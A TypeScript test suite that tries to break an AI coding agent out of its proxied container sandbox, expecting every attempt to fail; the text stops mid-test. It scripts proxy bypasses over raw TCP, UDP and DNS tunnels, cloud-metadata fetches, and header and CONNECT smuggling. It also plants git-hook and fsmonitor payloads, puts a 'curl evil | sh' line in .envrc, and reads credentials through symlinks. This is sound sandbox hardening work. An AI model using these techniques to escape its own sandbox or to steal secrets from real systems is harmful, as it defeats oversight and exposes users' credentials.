/**
 * The escape suite: attacks run from inside real sessions (the real agent image behind its real
 * squid proxy, started by the real `paude`), each named for what it tries, each expected to
 * fail. A case that succeeds fails CI with a message that starts with "ESCAPE:" and says what got
 * out. docs/SECURITY.md lists what this covers.
 *
 * The suite's own servers (bound on this host, reached from the proxy as made-up .test names
 * mapped to the engine network's gateway) record everything that reaches them: an attack
 * "worked" when the forbidden server, the UDP listener or a planted secret shows up where it
 * must not. Session A is restricted (only allowed.test on one port); session B runs with
 * network filtering off (--allow-network), where only the always-refused destinations (cloud
 * metadata, the proxy's own loopback, squid's cache manager) still hold — and where the
 * forbidden server is reachable, which shows that the detection itself works.
 */
import { execFile } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeEngines, type EngineHandle } from '../support/engine-test.js';
import { execIn, type ExecResult } from '../support/exec.js';
import { gatewayOf, testProject, type TestProject } from '../support/workspace.js';

const execFileAsync = promisify(execFile);
const MARKER = `paude-escape-marker-${Date.now().toString(36)}`;
const API_KEY = `sk-ant-escape-${Date.now().toString(36)}-keep-out`;

interface Seen {
  method: string;
  url: string;
  host: string;
  headers: IncomingHttpHeaders;
}

interface Recorder {
  server: Server;
  port: number;
  requests: Seen[];
  /** TCP connections accepted, whatever came over them. */
  connections: number;
}

async function recorder(reply = 'ok'): Promise<Recorder> {
  const r: Recorder = { server: createServer(), port: 0, requests: [], connections: 0 };
  r.server.on('connection', (socket: Socket) => {
    r.connections++;
    socket.on('error', () => undefined);
  });
  r.server.on('request', (req, res) => {
    r.requests.push({ method: req.method ?? '', url: req.url ?? '', host: req.headers.host ?? '', headers: req.headers });
    res.writeHead(200, { 'content-type': 'text/plain' }).end(`${reply}\n`);
  });
  await new Promise<void>((resolve) => r.server.listen(0, '0.0.0.0', resolve));
  r.port = (r.server.address() as AddressInfo).port;
  return r;
}

interface Suite {
  engine: EngineHandle;
  p: TestProject;
  gateway: string;
  allowed: Recorder;
  forbidden: Recorder;
  provider: Recorder;
  udp: { socket: UdpSocket; port: number; datagrams: number };
  /** The restricted session and the open one. */
  a: string;
  b: string;
  /** Host files that must come out of the suite unchanged, with their content at the start. */
  hostFiles: Map<string, string>;
}

/** Runs a bash script as the agent in a session; never throws for a failed command. */
function agent(s: Suite, session: string, script: string): Promise<ExecResult> {
  return execIn(s.engine.docker, session, ['bash', '-c', script]);
}

/** curl through the session's proxy with a short timeout; the status ('000': no answer) and exit code. */
async function curl(s: Suite, session: string, args: string): Promise<{ status: string; code: number; out: string }> {
  const r = await agent(s, session, `curl -s -o /dev/null -w '%{http_code}' --max-time 8 ${args}`);
  return { status: r.stdout.trim(), code: r.exitCode, out: r.stdout + r.stderr };
}

/** The forbidden server saw nothing: no request, not even a connection. */
function untouched(s: Suite, attack: string): void {
  expect(s.forbidden.connections, `ESCAPE: ${attack} reached the forbidden server (${JSON.stringify(s.forbidden.requests)})`).toBe(0);
}

describeEngines('escape suite', (engine) => {
  const s = {} as Suite;

  beforeAll(async () => {
    s.engine = engine;
    s.gateway = await gatewayOf(engine);
    s.allowed = await recorder('allowed');
    s.forbidden = await recorder('forbidden');
    s.provider = await recorder('provider');
    const udp = createSocket('udp4');
    s.udp = { socket: udp, port: 0, datagrams: 0 };
    udp.on('message', () => s.udp.datagrams++);
    await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
    s.udp.port = udp.address().port;
    for (const r of [s.allowed, s.forbidden, s.provider]) engine.defer(() => new Promise((done) => r.server.close(done)));
    engine.defer(() => new Promise<void>((done) => udp.close(() => done())));

    const names = ['allowed.test', 'blocked.test', 'provider.test', 'other.test', 'n1.blocked.test'];
    s.p = await testProject(engine, {
      config: {
        network: { mode: 'restricted', allowlist: [`allowed.test:${s.allowed.port}`], hosts: Object.fromEntries(names.map((n) => [n, s.gateway])) },
        claude: { copyHostConfig: true },
      },
    });
    const { ws, dir } = s.p;
    const home = join(dir, 'home');
    // Secrets on the host that were never granted to the agent.
    const planted: Record<string, string> = {
      '.ssh/id_ed25519': `-----BEGIN OPENSSH PRIVATE KEY-----\n${MARKER}\n`,
      '.aws/credentials': `[default]\naws_secret_access_key = ${MARKER}\n`,
      '.config/gh/hosts.yml': `github.com:\n  oauth_token: ${MARKER}\n`,
      '.git-credentials': `https://user:${MARKER}@github.example\n`,
      '.netrc': `machine example.test login u password ${MARKER}\n`,
      '.docker/config.json': `{"auths":{"r.example":{"auth":"${MARKER}"}}}\n`,
      '.kube/config': `users:\n- name: u\n  user:\n    token: ${MARKER}\n`,
    };
    for (const [rel, text] of Object.entries(planted)) {
      await mkdir(join(home, rel, '..'), { recursive: true });
      await writeFile(join(home, rel), text, { mode: 0o600 });
    }
    await mkdir(join(home, '.claude'), { recursive: true });
    await writeFile(join(home, '.claude', 'settings.json'), '{"permissions":{"deny":["Bash(curl:*)"]}}\n');
    await writeFile(join(home, '.claude.json'), '{"numStartups":1}\n');
    // The repository's protected paths, as a project has them.
    await mkdir(join(ws, '.git', 'hooks'), { recursive: true });
    await writeFile(join(ws, '.git', 'config'), '[core]\n\tbare = false\n');
    await writeFile(join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    await writeFile(join(ws, '.mcp.json'), '{"mcpServers":{}}\n');
    await mkdir(join(ws, '.vscode'));
    await writeFile(join(ws, '.vscode', 'settings.json'), '{}\n');
    await mkdir(join(ws, '.claude'));
    await writeFile(join(ws, '.claude', 'settings.json'), '{"permissions":{}}\n');
    await writeFile(join(ws, 'paude.json'), '{"network":{"denylist":["project-denied.test"]}}\n');
    // A submodule (its repository under .git/modules, its checkout's .git file) and a linked
    // worktree elsewhere whose git directory is .git/worktrees/feature.
    await mkdir(join(ws, '.git', 'modules', 'sub', 'hooks'), { recursive: true });
    await writeFile(join(ws, '.git', 'modules', 'sub', 'HEAD'), 'ref: refs/heads/main\n');
    await writeFile(join(ws, '.git', 'modules', 'sub', 'config'), '[core]\n\tbare = false\n\tworktree = ../../../sub\n');
    await mkdir(join(ws, 'sub'));
    await writeFile(join(ws, 'sub', '.git'), 'gitdir: ../.git/modules/sub\n');
    await mkdir(join(ws, '.git', 'worktrees', 'feature'), { recursive: true });
    await writeFile(join(ws, '.git', 'worktrees', 'feature', 'commondir'), '../..\n');
    // Owned by the agent's user, as a user's own files are (rootless Podman maps the agent to
    // them): only the mounts stand between the agent and these files.
    if (process.getuid?.() === 0) await execFileAsync('chown', ['-R', '1000:1000', ws]);
    s.hostFiles = new Map();
    for (const rel of ['.git/config', '.mcp.json', '.vscode/settings.json', '.claude/settings.json', 'paude.json', '.git/modules/sub/config', 'sub/.git', '.git/worktrees/feature/commondir']) s.hostFiles.set(join(ws, rel), await readFile(join(ws, rel), 'utf8'));
    for (const rel of ['.claude/settings.json', '.claude.json', ...Object.keys(planted)]) s.hostFiles.set(join(home, rel), await readFile(join(home, rel), 'utf8'));
    const trust = await s.p.paude(['trust', '--yes']);
    expect(trust.code, trust.stderr).toBe(0);

    Object.assign(s.p.env, {
      ANTHROPIC_API_KEY: API_KEY,
      ANTHROPIC_BASE_URL: `http://provider.test:${s.provider.port}`,
      GITHUB_TOKEN: MARKER,
      AWS_SECRET_ACCESS_KEY: MARKER,
      PAUDE_ESCAPE_HOST_ONLY: MARKER,
    });
    const [a, b] = await Promise.all([s.p.paude(['--detach', '--shell']), s.p.paude(['--detach', '--shell', '--allow-network'])]);
    expect(a.code, a.stderr).toBe(0);
    expect(b.code, b.stderr).toBe(0);
    s.a = a.stdout.trim();
    s.b = b.stdout.trim();
  });

  afterAll(async () => {
    await s.p?.paude(['rm', '--force', s.a, s.b].filter(Boolean));
  });

  describe('positive controls (the detection works)', () => {
    it('reaches the allowed host through the proxy, and the provider with the key the proxy adds', async () => {
      expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/control`)).status).toBe('200');
      expect(s.allowed.requests.some((r) => r.url === '/control')).toBe(true);
      expect((await curl(s, s.a, `-H 'x-api-key: agent-guess' http://127.0.0.1:3129/v1/control`)).status).toBe('200');
      expect(s.provider.requests.at(-1)?.headers['x-api-key']).toBe(API_KEY);
    });

    it('with filtering off (session B), the forbidden server is reachable: what the restricted cases must not do', async () => {
      const before = s.forbidden.connections;
      expect((await curl(s, s.b, `--max-time 30 http://blocked.test:${s.forbidden.port}/control`)).status).toBe('200');
      expect(s.forbidden.connections).toBeGreaterThan(before);
      s.forbidden.connections = 0;
      s.forbidden.requests.length = 0;
    });
  });

  describe('network: reach a host that is not allowed', () => {
    it('by HTTP through the proxy', async () => {
      expect((await curl(s, s.a, `http://blocked.test:${s.forbidden.port}/`)).status).toBe('403');
      untouched(s, 'plain HTTP to a host not on the allowlist');
    });

    it('by HTTPS (CONNECT) through the proxy', async () => {
      const r = await curl(s, s.a, `-k https://blocked.test:${s.forbidden.port}/`);
      expect(r.code, 'ESCAPE: a CONNECT tunnel to a host not on the allowlist was opened').not.toBe(0);
      untouched(s, 'CONNECT to a host not on the allowlist');
    });

    it('by an IP literal', async () => {
      expect((await curl(s, s.a, `http://${s.gateway}:${s.forbidden.port}/`)).status).toBe('403');
      expect((await curl(s, s.a, `-k https://${s.gateway}:${s.forbidden.port}/`)).code).not.toBe(0);
      untouched(s, 'an IPv4 literal');
    });

    it('by an IPv6 literal (IPv4-mapped, and the unspecified address)', async () => {
      for (const host of [`[::ffff:${s.gateway}]`, '[::]', `[0:0:0:0:0:ffff:${s.gateway}]`]) {
        const r = await curl(s, s.a, `-g http://${host}:${s.forbidden.port}/`);
        expect(r.status, `ESCAPE: ${host} was fetched`).not.toBe('200');
      }
      untouched(s, 'an IPv6 literal');
    });

    it('on a port the allowlist does not name, on the allowed host', async () => {
      expect((await curl(s, s.a, `http://allowed.test:${s.forbidden.port}/`)).status).toBe('403');
      expect((await curl(s, s.a, `-k https://allowed.test:${s.forbidden.port}/`)).code).not.toBe(0);
      untouched(s, 'another port of the allowed host');
    });

    it('by numeric host forms (decimal, hex, octal, short)', async () => {
      const [a, b, c, d] = s.gateway.split('.').map(Number) as [number, number, number, number];
      const decimal = ((a << 24) >>> 0) + (b << 16) + (c << 8) + d;
      for (const host of [String(decimal), `0x${decimal.toString(16)}`, `0${a.toString(8)}.0${b.toString(8)}.0${c.toString(8)}.0${d.toString(8)}`, `${a}.${(b << 16) + (c << 8) + d}`]) {
        const r = await curl(s, s.a, `http://${host}:${s.forbidden.port}/`);
        expect(r.status, `ESCAPE: ${host} was fetched`).not.toBe('200');
      }
      untouched(s, 'a numeric form of the gateway address');
    });

    it('by spellings of a refused name (case, trailing dot, percent-encoding, a longer name ending in an allowed one)', async () => {
      for (const url of [`http://BLOCKED.TEST:${s.forbidden.port}/`, `http://blocked.test.:${s.forbidden.port}/`, `http://blocked%2etest:${s.forbidden.port}/`, `http://allowed.test.blocked.test:${s.forbidden.port}/`, `http://blockedallowed.test:${s.forbidden.port}/`]) {
        const r = await curl(s, s.a, `'${url}'`);
        expect(r.status, `ESCAPE: ${url} was fetched`).not.toBe('200');
      }
      untouched(s, 'another spelling of a refused name');
    });

    it('by a user-info trick (allowed.test@blocked.test)', async () => {
      const r = await curl(s, s.a, `'http://allowed.test:${s.allowed.port}@blocked.test:${s.forbidden.port}/'`);
      expect(r.status).not.toBe('200');
      untouched(s, 'user-info in the URL');
    });

    it('by another scheme through the proxy (ftp://)', async () => {
      const r = await curl(s, s.a, `ftp://blocked.test:${s.forbidden.port}/`);
      expect(r.status).not.toBe('200');
      untouched(s, 'ftp:// through the proxy');
    });

    it('by a WebSocket upgrade and by HTTP/2 prior knowledge', async () => {
      await curl(s, s.a, `-H 'Connection: Upgrade' -H 'Upgrade: websocket' http://blocked.test:${s.forbidden.port}/`);
      await curl(s, s.a, `--http2-prior-knowledge http://blocked.test:${s.forbidden.port}/`);
      untouched(s, 'an upgrade to another protocol');
    });
  });

  describe('network: around the proxy', () => {
    it('by a raw TCP socket straight to the host, without the proxy', async () => {
      const r = await agent(s, s.a, `exec 3<>/dev/tcp/${s.gateway}/${s.forbidden.port} && echo connected`);
      expect(r.stdout, 'ESCAPE: a direct TCP connection left the container').not.toContain('connected');
      untouched(s, 'a raw TCP socket');
    });

    it('by a raw TCP socket to an outside address (TEST-NET, never routed)', async () => {
      const r = await agent(s, s.a, 'timeout 5 bash -c "exec 3<>/dev/tcp/192.0.2.1/443" && echo connected');
      expect(r.stdout).not.toContain('connected');
      expect(r.stderr).toMatch(/unreachable|refused|timed out|No route/i);
    });

    it('by IPv6 without the proxy', async () => {
      const r = await agent(s, s.a, 'timeout 5 bash -c "exec 3<>/dev/tcp/2001:db8::1/443" && echo connected');
      expect(r.stdout).not.toContain('connected');
    });

    it('by curl with the proxy variables removed', async () => {
      const r = await agent(s, s.a, `env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy curl -s -o /dev/null --connect-timeout 3 http://${s.gateway}:${s.forbidden.port}/ && echo fetched`);
      expect(r.stdout).not.toContain('fetched');
      untouched(s, 'curl without the proxy');
    });

    it('by UDP datagrams to the host', async () => {
      await agent(s, s.a, `for i in 1 2 3; do echo ${MARKER} > /dev/udp/${s.gateway}/${s.udp.port}; done; socat -u - UDP:${s.gateway}:${s.udp.port} <<< ${MARKER}`);
      await new Promise((r) => setTimeout(r, 300));
      expect(s.udp.datagrams, 'ESCAPE: a UDP datagram left the container').toBe(0);
    });

    it('by DNS queries from the agent (tunnelling through a resolver)', async () => {
      const r = await agent(s, s.a, `getent hosts ${MARKER}.blocked.test && echo resolved; getent hosts allowed.test && echo resolved; echo > /dev/udp/${s.gateway}/53 && echo sent`);
      expect(r.stdout, 'ESCAPE: the agent could resolve names or send to port 53').not.toMatch(/resolved|sent/);
    });

    it('by DNS through the proxy: refused names are never looked up by it', async () => {
      const datagrams = async (): Promise<number> => {
        const snmp = await execIn(engine.docker, `${s.a}-proxy`, ['cat', '/proc/net/snmp']);
        const [head, values] = snmp.stdout.split('\n').filter((l) => l.startsWith('Udp:'));
        const fields = head?.split(/\s+/) ?? [];
        return Number(values?.split(/\s+/)[fields.indexOf('OutDatagrams')] ?? NaN);
      };
      const before = await datagrams();
      expect(Number.isFinite(before)).toBe(true);
      await agent(s, s.a, `for i in $(seq 20); do curl -s -o /dev/null --max-time 3 http://leak-$i-${MARKER}.exfil.example/; done`);
      expect(await datagrams(), 'ESCAPE: the proxy sent DNS queries for names it refused (a DNS tunnel)').toBe(before);
    });

    it('by the cloud metadata address, by IP and by name', async () => {
      for (const url of ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://[fd00:ec2::254]/latest/meta-data/']) {
        expect((await curl(s, s.a, `-g '${url}'`)).status, `ESCAPE: ${url}`).not.toBe('200');
      }
    });

    it('by the host gateway names the engines offer', async () => {
      for (const host of ['host.containers.internal', 'host.docker.internal', 'gateway.docker.internal']) {
        expect((await curl(s, s.a, `http://${host}:${s.forbidden.port}/`)).status, `ESCAPE: ${host}`).not.toBe('200');
      }
      untouched(s, 'the host gateway');
    });

    it('by the proxy of another session', async () => {
      const other = (await engine.docker.getContainer(`${s.b}-proxy`).inspect()) as { NetworkSettings: { Networks: Record<string, { IPAddress: string }> } };
      const address = Object.values(other.NetworkSettings.Networks)[0]?.IPAddress;
      expect(address).toBeTruthy();
      const r = await agent(s, s.a, `curl -s -o /dev/null -w '%{http_code}' --connect-timeout 3 -x http://${address}:3128 http://blocked.test:${s.forbidden.port}/; timeout 3 bash -c "exec 3<>/dev/tcp/${address}/3128" && echo connected; ls /run/paude-link`);
      expect(r.stdout).not.toContain('connected');
      expect(r.stdout).toMatch(/^000/);
      expect(r.stdout).not.toContain(s.b);
      untouched(s, "another session's proxy");
    });
  });

  describe('network: smuggle a second host past the proxy', () => {
    it('by a Host header that names another host than the URL', async () => {
      const before = s.allowed.requests.length;
      await curl(s, s.a, `-H 'Host: blocked.test:${s.forbidden.port}' http://allowed.test:${s.allowed.port}/hosthdr`);
      untouched(s, 'a Host header naming a refused host');
      // Whatever the Host header said, the request went where the URL said.
      expect(s.allowed.requests.slice(before).every((r) => r.url === '/hosthdr')).toBe(true);
    });

    it('by a second request pipelined on the connection of an allowed one', async () => {
      const r = await agent(
        s,
        s.a,
        `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://allowed.test:${s.allowed.port}/first HTTP/1.1\\r\\nHost: allowed.test:${s.allowed.port}\\r\\n\\r\\nGET http://blocked.test:${s.forbidden.port}/second HTTP/1.1\\r\\nHost: blocked.test:${s.forbidden.port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 8 cat <&3`,
      );
      expect(r.stdout).toMatch(/HTTP\/1\.1 200/);
      expect(r.stdout).toMatch(/HTTP\/1\.1 403/);
      untouched(s, 'a pipelined second request');
    });

    it('by a CONNECT tunnel to the allowed host that then asks for another', async () => {
      const r = await agent(
        s,
        s.a,
        `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT allowed.test:${s.allowed.port} HTTP/1.1\\r\\nHost: blocked.test:${s.forbidden.port}\\r\\n\\r\\n' >&3; sleep 1; printf 'GET http://blocked.test:${s.forbidden.port}/inside HTTP/1.1\\r\\nHost: blocked.test:${s.forbidden.port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 5 cat <&3`,
      );
      expect(r.stdout).toMatch(/^HTTP\/1\.1 \d{3}/);
      untouched(s, 'a request inside a tunnel to an allowed host');
    });

    it('by CONNECT to the allowed host on a port the allowlist does not name', async () => {
      const r = await agent(s, s.a, `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT allowed.test:${s.forbidden.port} HTTP/1.1\\r\\nHost: allowed.test:${s.allowed.port}\\r\\n\\r\\n' >&3; timeout 5 head -1 <&3`);
      expect(r.stdout).toMatch(/HTTP\/1\.1 403/);
      untouched(s, 'CONNECT to another port');
    });

    it('by the provider route to another destination', async () => {
      const before = s.provider.requests.length;
      await curl(s, s.a, `-x http://127.0.0.1:3129 http://blocked.test:${s.forbidden.port}/via-provider`);
      await curl(s, s.a, `-H 'Host: blocked.test:${s.forbidden.port}' http://127.0.0.1:3129/via-provider-host`);
      untouched(s, 'the provider route');
      // Both went to the provider, the only place that route leads.
      expect(s.provider.requests.length).toBeGreaterThan(before);
    });

    it('by getting the provider key added to a request to another host', async () => {
      await curl(s, s.a, `http://allowed.test:${s.allowed.port}/key-probe`);
      await curl(s, s.b, `http://blocked.test:${s.forbidden.port}/key-probe`);
      const leaked = [...s.allowed.requests, ...s.forbidden.requests].filter((r) => JSON.stringify(r.headers).includes(API_KEY));
      expect(leaked, 'ESCAPE: the API key was sent to a host that is not the provider').toEqual([]);
      s.forbidden.connections = 0;
      s.forbidden.requests.length = 0;
    });
  });

  describe('network: always refused, even with filtering off (session B)', () => {
    // Raw requests to the proxy: what any client could send, without curl's own URL rules
    // (it rewrites numeric hosts and skips the proxy for loopback names).
    it.each([
      ['the cloud metadata address', 'GET', 'http://169.254.169.254/latest/meta-data/'],
      ['the cloud metadata address over CONNECT', 'CONNECT', '169.254.169.254:443'],
      ['the cloud metadata address as a decimal number', 'GET', 'http://2852039166/latest/meta-data/'],
      ['the cloud metadata address as an IPv4-mapped IPv6 literal', 'GET', 'http://[::ffff:169.254.169.254]/'],
      ['a link-local IPv6 address', 'GET', 'http://[fe80::1]/'],
      ["the proxy's own provider port on its loopback", 'GET', 'http://127.0.0.1:3129/v1/messages'],
      ["the proxy's own provider port over CONNECT", 'CONNECT', '127.0.0.1:3129'],
      ["the proxy's loopback as a decimal number", 'GET', 'http://2130706433:3129/'],
      ["the proxy's loopback in hex", 'GET', 'http://0x7f000001:3129/'],
      ["the proxy's loopback in short form", 'GET', 'http://127.1:3129/'],
      ["the proxy's loopback as localhost", 'GET', 'http://localhost:3129/'],
      ["the proxy's loopback over IPv6", 'GET', 'http://[::1]:3129/'],
      ["the proxy's loopback as an IPv4-mapped IPv6 literal", 'GET', 'http://[::ffff:127.0.0.1]:3129/'],
      ['the unspecified address 0.0.0.0', 'GET', 'http://0.0.0.0:3129/'],
    ])('reach %s', async (_what, method, target) => {
      const status = await raw(s, s.b, method, target);
      // Refused by the proxy itself (403, or 400 for a host it will not parse), not merely left
      // unanswered: it never tried to connect.
      expect(status, `ESCAPE: the proxy did not refuse ${method} ${target} with filtering off`).toMatch(/^40[03]$/);
    });

    it('reach the cloud metadata address after the user allowed it by IP (restricted session)', async () => {
      const allow = await s.p.paude(['allow', 'ip:169.254.169.254', '--session', s.a]);
      expect(allow.code, allow.stderr).toBe(0);
      expect(await raw(s, s.a, 'GET', 'http://169.254.169.254/latest/meta-data/'), 'ESCAPE: an allowlist entry opened the metadata address').toBe('403');
    });

    it("read squid's configuration (and the key in it) through its cache manager", async () => {
      // squid's manager answers on its own host name (the proxy container's, which squid's error
      // pages show), on the port it listens on.
      const host = (await engine.docker.getContainer(`${s.b}-proxy`).inspect()).Config.Hostname;
      for (const url of [`http://${host}:3128/squid-internal-mgr/config`, `http://${host}:3128/squid-internal-mgr/menu`, `cache_object://${host}/config`, 'http://127.0.0.1:3128/squid-internal-mgr/config', 'http://localhost:3128/squid-internal-mgr/menu']) {
        const r = await agent(s, s.b, `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET ${url} HTTP/1.0\\r\\n\\r\\n' >&3; timeout 5 cat <&3`);
        expect(r.stdout, `ESCAPE: squid's cache manager answered ${url}`).not.toMatch(/request_header_add|http_port|Cache Manager menu|cache_peer/);
        expect(r.stdout).not.toContain(API_KEY);
      }
    });
  });

  describe('network: exhaust the proxy to make it fail open', () => {
    it('holds 300 idle connections open, then asks for a refused host', async () => {
      const r = await agent(
        s,
        s.a,
        `for i in $(seq 300); do exec {fd}<>/dev/tcp/127.0.0.1/3128 || break; done; curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://blocked.test:${s.forbidden.port}/; echo; curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://allowed.test:${s.allowed.port}/after-idle`,
      );
      const [refused, allowed] = r.stdout.trim().split('\n');
      expect(refused, 'ESCAPE: the refused host answered while the proxy was loaded').not.toBe('200');
      expect(allowed).toBe('200');
      untouched(s, 'requests under many idle connections');
    });

    it('floods the policy helper with 1,000 distinct refused names at once', async () => {
      const r = await agent(s, s.a, `curl -s -Z --parallel-max 200 --max-time 30 -o /dev/null -w '%{http_code}\\n' 'http://n[1-1000].blocked.test:${s.forbidden.port}/' | sort | uniq -c`);
      expect(r.stdout, 'ESCAPE: a refused name answered under a flood').not.toMatch(/\s200$/m);
      untouched(s, 'a flood of refused names');
      expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/after-flood`)).status).toBe('200');
    });

    it('sends an oversized URL and oversized headers for a refused host', async () => {
      const r = await agent(s, s.a, `long=$(head -c 70000 /dev/zero | tr '\\0' a); curl -s -o /dev/null -w '%{http_code} ' --max-time 10 "http://blocked.test:${s.forbidden.port}/$long"; curl -s -o /dev/null -w '%{http_code}' --max-time 10 -H "X-Big: $long" http://blocked.test:${s.forbidden.port}/`);
      expect(r.stdout, 'ESCAPE: an oversized request got through').not.toMatch(/200/);
      untouched(s, 'oversized requests');
      expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/after-big`)).status).toBe('200');
    });
  });

  describe('the workspace: protected paths never reach the host', () => {
    const unchanged = async (rel: string): Promise<void> => {
      const path = join(s.p.ws, rel);
      expect(await readFile(path, 'utf8'), `ESCAPE: ${rel} was changed on the host`).toBe(s.hostFiles.get(path));
    };
    const absent = async (rel: string): Promise<void> => {
      const present = await readFile(join(s.p.ws, rel)).then(
        () => true,
        () => false,
      );
      expect(present, `ESCAPE: ${rel} exists on the host`).toBe(false);
    };

    it('writes a git hook', async () => {
      await agent(s, s.a, 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit');
      await absent('.git/hooks/pre-commit');
    });

    it('rewrites .git/config (core.hooksPath, core.fsmonitor)', async () => {
      await agent(s, s.a, 'git config core.fsmonitor "touch /tmp/pwned"; printf "[core]\\n\\thooksPath = evil\\n" >> .git/config');
      await unchanged('.git/config');
    });

    it('moves .git aside and makes a new one with a hook', async () => {
      await agent(s, s.a, 'mv .git .git-aside; mkdir -p .git/hooks && printf "#!/bin/sh\\n" > .git/hooks/post-checkout && printf "[core]\\n\\tfsmonitor = evil\\n" > .git/config');
      await absent('.git-aside/config');
      await absent('.git/hooks/post-checkout');
      await unchanged('.git/config');
    });

    it('points git at another common directory (.git/commondir)', async () => {
      await agent(s, s.a, 'mkdir -p evil-git/hooks && printf "[core]\\n\\tfsmonitor = evil\\n" > evil-git/config && echo ../evil-git > .git/commondir');
      await waitAbsent(s, '.git/commondir');
    });

    it('rewrites a submodule’s config or hooks, or points its checkout’s .git file at a repository of its own', async () => {
      await agent(s, s.a, 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/modules/sub/config; printf "#!/bin/sh\\n" > .git/modules/sub/hooks/post-checkout; mkdir -p evil-sub && printf "[core]\\n\\tfsmonitor = evil\\n" > evil-sub/config && echo "gitdir: ../evil-sub" > sub/.git; mv sub sub-aside');
      await unchanged('.git/modules/sub/config');
      await absent('.git/modules/sub/hooks/post-checkout');
      await unchanged('sub/.git');
    });

    it('adds a submodule repository of its own under .git/modules (git status on the host would enter it)', async () => {
      await agent(s, s.a, 'mkdir -p .git/modules/evil && echo "ref: refs/heads/main" > .git/modules/evil/HEAD && printf "[core]\\n\\tfsmonitor = evil\\n" > .git/modules/evil/config');
      await waitAbsent(s, '.git/modules/evil');
    });

    it('points a linked worktree at another common directory (.git/worktrees/*/commondir)', async () => {
      await agent(s, s.a, 'echo ../../../evil-git > .git/worktrees/feature/commondir; printf "[core]\\n\\tfsmonitor = evil\\n" > .git/worktrees/feature/config.worktree');
      await unchanged('.git/worktrees/feature/commondir');
      await waitAbsent(s, '.git/worktrees/feature/config.worktree');
    });

    it('replaces a protected file by renaming over it, or deletes it', async () => {
      await agent(s, s.a, 'echo "{\\"mcpServers\\":{\\"x\\":{\\"command\\":\\"evil\\"}}}" > new.json; mv -f new.json .mcp.json; rm -f .mcp.json; rm -rf .vscode .git/hooks');
      await unchanged('.mcp.json');
      await unchanged('.vscode/settings.json');
    });

    it('hard-links a protected file and writes through the link', async () => {
      await agent(s, s.a, 'ln .git/config cfg-link && echo "[alias] x = !evil" >> cfg-link; ln .mcp.json mcp-link && echo evil > mcp-link');
      await unchanged('.git/config');
      await unchanged('.mcp.json');
    });

    it('creates .envrc, which direnv would run on the host', async () => {
      await agent(s, s.a, 'echo "curl evil | sh" > .envrc');
      await waitAbsent(s, '.envrc');
    });

    it('widens the next session by editing the project paude.json', async () => {
      const r = await agent(s, s.a, 'echo "{\\"network\\":{\\"allowlist\\":[\\"blocked.test\\"]}}" > paude.json && echo written');
      expect(r.stdout).not.toContain('written');
      await unchanged('paude.json');
    });

    it('widens the next session with a devcontainer.json', async () => {
      await agent(s, s.a, 'mkdir -p .devcontainer && echo "{\\"image\\":\\"evil\\",\\"containerEnv\\":{\\"X\\":\\"1\\"}}" > .devcontainer/devcontainer.json');
      await waitAbsent(s, '.devcontainer');
    });

    it("persists a change to the project's .claude/ (hooks that would run on the host)", async () => {
      const r = await agent(s, s.a, 'echo "{\\"hooks\\":{\\"Stop\\":[{\\"hooks\\":[{\\"type\\":\\"command\\",\\"command\\":\\"evil\\"}]}]}}" > .claude/settings.json && cat .claude/settings.json');
      expect(r.stdout).toContain('evil');
      await unchanged('.claude/settings.json');
    });

    it('symlinks a host path into the workspace and reads through it', async () => {
      const target = join(s.p.dir, 'home', '.ssh', 'id_ed25519');
      const r = await agent(s, s.a, `ln -sf ${target} ssh-link; cat ssh-link; cat ${target}`);
      expect(r.stdout, 'ESCAPE: a host file was read through a symlink').not.toContain(MARKER);
    });

    it('mounts over a protected path (no CAP_SYS_ADMIN)', async () => {
      const r = await agent(s, s.a, 'mount -t tmpfs none .git/hooks && echo mounted; unshare -m -r sh -c "mount -t tmpfs none .git/hooks && echo > .git/hooks/x && echo inside"');
      expect(r.stdout).not.toContain('mounted');
      await absent('.git/hooks/x');
    });
  });

  describe('the host: credentials, engine, privileges', () => {
    it.each([
      ['~/.ssh', '.ssh/id_ed25519'],
      ['~/.aws', '.aws/credentials'],
      ['the GitHub CLI token', '.config/gh/hosts.yml'],
      ['git credentials', '.git-credentials'],
      ['~/.netrc', '.netrc'],
      ['the Docker registry credentials', '.docker/config.json'],
      ['the kubeconfig', '.kube/config'],
    ])('reads %s, which was not granted', async (_what, rel) => {
      const r = await agent(s, s.a, `cat "$HOME/${rel}" ${join(s.p.dir, 'home', rel)} /root/${rel} 2>/dev/null`);
      expect(r.stdout, `ESCAPE: ${rel} was readable`).not.toContain(MARKER);
    });

    it('finds any planted secret anywhere on its file system or in any environment', async () => {
      const r = await agent(s, s.a, search(MARKER));
      expect(r.stdout.trim(), 'ESCAPE: a host secret is visible in the container').toBe('0');
    });

    it('reads the API key the proxy holds (files, environment, processes)', async () => {
      const r = await agent(s, s.a, search(API_KEY));
      expect(r.stdout.trim(), 'ESCAPE: the API key is visible in the container').toBe('0');
    });

    it('finds the engine socket', async () => {
      const r = await agent(
        s,
        s.a,
